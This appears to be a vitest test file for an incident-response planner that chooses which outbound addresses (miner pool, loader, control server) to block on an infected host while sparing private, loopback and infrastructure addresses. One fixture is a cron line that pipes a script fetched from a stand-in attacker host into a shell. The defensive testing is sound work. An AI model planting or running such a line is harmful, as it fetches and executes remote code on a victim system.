import { describe, expect, it } from 'vitest';
import type { Snapshot, Socket } from '../../domain/snapshot.ts';
import { protectFacts } from '../../domain/targets/protect.ts';
import { judge } from '../../domain/verdict/index.ts';
import {
  CONTROL,
  infectedSnapshot,
  LOADER,
  labContext,
  POOL,
  pidsOf,
  SPOOLS,
} from '../../test/shared/infected-snapshot.ts';
import { crontab, socket } from '../../test/shared/snapshots.ts';
import { plan } from './plan.ts';

const pid = pidsOf();
const draftOf = (snapshot: Snapshot) =>
  plan(snapshot, judge(snapshot, labContext), {
    host: 'web1',
    protect: protectFacts(snapshot, { paths: [], addresses: [], accounts: [] }),
  });
const withSockets = (...sockets: Socket[]): Snapshot => {
  const snapshot = infectedSnapshot();
  return { ...snapshot, sockets: [...snapshot.sockets, ...sockets] };
};
const targetOf = (snapshot: Snapshot, address: string) =>
  draftOf(snapshot).targets.find((t) => t.identity.kind === 'egress' && t.identity.address === address);

describe('the plan for addresses', () => {
  it('has the endpoints of miner, guard and loader, and no other', () => {
    const { targets } = draftOf(infectedSnapshot());
    expect(targets.map((t) => t.title.replace(/ .*/, '')).sort()).toEqual([POOL, LOADER, CONTROL].sort());
    expect(targets.every((t) => t.selected)).toBe(true);
  });

  it('has the address of a linked cron line also while nothing talks to it', () => {
    const snapshot = infectedSnapshot();
    const quiet = {
      ...snapshot,
      sockets: snapshot.sockets.filter((s) => s.remote.address !== LOADER),
      processes: snapshot.processes.filter((p) => p.pid !== pid.fetcher),
    };
    expect(targetOf(quiet, LOADER)?.selected).toBe(true);
  });

  it('unticks private, shared, link-local and unique local addresses', () => {
    for (const address of ['10.1.2.3', '192.168.7.7', '100.64.1.1', '169.254.1.1', 'fd00::7', 'fe80::7']) {
      const target = targetOf(withSockets(socket([pid.guard], address, 8443)), address);
      expect(target, address).toMatchObject({ selected: false });
    }
  });

  it('takes IPv6, and IPv4 mapped into it, by their canonical text', () => {
    expect(
      targetOf(withSockets(socket([pid.guard], '2001:db8::7', 8443)), '2001:db8::7')?.identity,
    ).toMatchObject({ family: 'ipv6' });
    const mapped = withSockets(socket([pid.guard], '::ffff:203.0.113.77', 8443));
    expect(targetOf(mapped, '203.0.113.77')?.identity).toMatchObject({ family: 'ipv4' });
  });

  it('unticks what others use, by a connection or by a line that stays', () => {
    const used = targetOf(withSockets(socket([pid.otherCurl], CONTROL, 443)), CONTROL);
    expect(used?.selected).toBe(false);
    expect(used?.risks.join()).toContain('curl (pid 2001');
    const snapshot = infectedSnapshot();
    const line = crontab('/var/spool/cron/crontabs/alice', [
      `0 1 * * * curl -fsS http://${CONTROL}/health >/dev/null`,
    ]);
    expect(targetOf({ ...snapshot, cronFiles: [...snapshot.cronFiles, line] }, CONTROL)?.selected).toBe(
      false,
    );
  });

  it('does not count a connection that lingers as a use', () => {
    expect(targetOf(withSockets(socket([], CONTROL, 443, { state: 'TIME_WAIT' })), CONTROL)?.selected).toBe(
      true,
    );
  });

  it('unticks an address that only came in', () => {
    const listening = socket([pid.guard], '0.0.0.0', 0, {
      state: 'LISTEN',
      local: { address: '0.0.0.0', port: 7000 },
    });
    const inbound = socket([pid.guard], '203.0.113.88', 50_001, {
      local: { address: '192.0.2.5', port: 7000 },
    });
    const target = targetOf(withSockets(listening, inbound), '203.0.113.88');
    expect(target?.selected).toBe(false);
    expect(target?.title).toContain('inbound only');
  });

  it('never offers the responder, a resolver, a gateway or loopback', () => {
    for (const address of ['192.0.2.250', '192.0.2.53', '192.0.2.1', '127.0.0.1', '::1']) {
      const snapshot = withSockets(socket([pid.guard], address, 8443));
      expect(targetOf(snapshot, address), address).toBeUndefined();
      expect(draftOf(snapshot).kept.find((one) => one.title === address)?.why).toContain('Protected');
    }
  });

  it('leaves names to the resolver, and says so', () => {
    const lines = ['*/5 * * * * curl -fsSL http://evil.example/i.sh | sh'];
    const snapshot = { ...infectedSnapshot(), cronFiles: [crontab(SPOOLS[1], lines)] };
    expect(draftOf(snapshot).kept.map((one) => one.title)).toContain('evil.example:80');
  });
});
